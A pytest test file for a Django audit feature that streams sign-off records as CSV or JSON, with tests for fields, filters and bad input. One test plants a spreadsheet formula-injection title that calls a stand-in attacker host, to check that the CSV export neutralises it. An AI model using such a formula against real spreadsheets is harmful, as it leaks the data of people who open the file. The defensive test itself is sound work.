"""Auditors download every sign-off as CSV or JSON, filtered, streamed row by row."""

import csv
import io
import json

import pytest

from django.urls import reverse

from review.models import SignOff
from tests.support.factories import add_article, signing_director
from tests.support.publishing import go_live

pytestmark = pytest.mark.django_db


def download(client, name, **filters):
    response = client.get(reverse(f"audit:{name}"), filters)
    assert response.status_code == 200
    assert response.streaming
    return b"".join(response.streaming_content).decode()


def csv_rows(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_holds_every_sign_off_with_its_signature_and_hashes(
    client, compliance, article_with_two_versions
):
    client.force_login(compliance)

    rows = csv_rows(download(client, "export_csv"))

    first = SignOff.objects.order_by("pk").first()
    assert len(rows) == SignOff.objects.count() == 8
    assert rows[0]["id"] == str(first.pk)
    assert rows[0]["signer_name"] == "Dr Maya Chen, MD"
    assert rows[0]["meaning"] == first.meaning
    assert rows[0]["article_title"] == "Ketamine infusion for depression"
    assert rows[0]["row_hash"] == first.row_hash
    assert json.loads(rows[0]["references"]) == first.references
    assert rows[0]["signed_at"] == first.signed_at.isoformat()
    assert (rows[0]["second_factor_type"], rows[0]["second_factor_device"]) == (
        "totp",
        "Test phone",
    )


def test_json_export_is_a_list_of_sign_offs(client, compliance, article_with_two_versions):
    client.force_login(compliance)

    records = json.loads(download(client, "export_json"))

    assert [r["id"] for r in records] == list(
        SignOff.objects.order_by("pk").values_list("pk", flat=True)
    )
    assert records[-1]["carried_over_from_id"] is not None


def test_exports_filter_by_article_signer_and_dates(
    client, compliance, article_with_two_versions, writer
):
    other_director = signing_director(username="omar", first_name="Omar", last_name="Ode")
    other = go_live(add_article(title="Esketamine nasal spray", owner=writer), other_director)
    client.force_login(compliance)

    by_article = csv_rows(download(client, "export_csv", article=other.pk))
    by_signer = csv_rows(download(client, "export_csv", signer=other_director.pk))
    today = SignOff.objects.first().signed_at.date().isoformat()
    in_range = csv_rows(download(client, "export_csv", signed_from=today, signed_to=today))
    before = csv_rows(download(client, "export_csv", signed_to="2020-01-01"))

    assert {row["article_title"] for row in by_article} == {"Esketamine nasal spray"}
    assert len(by_article) == 4
    assert {row["signer_name"] for row in by_signer} == {"Dr Omar Ode, MD"}
    assert len(in_range) == 12
    assert before == []


def test_a_bad_filter_is_refused_not_ignored(client, compliance, article_with_two_versions):
    client.force_login(compliance)

    response = client.get(reverse("audit:export_csv"), {"signed_from": "yesterday"})

    assert response.status_code == 400


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_text(client, compliance):
    title = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
    article = go_live(add_article(title=title, slug="formula"), signing_director())
    client.force_login(compliance)

    csv_row = csv_rows(download(client, "export_csv", article=article.pk))[0]
    json_record = json.loads(download(client, "export_json", article=article.pk))[0]

    assert csv_row["article_title"] == f"'{title}"
    assert json_record["article_title"] == title  # the JSON keeps the value exactly as signed
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in csv_row.values())
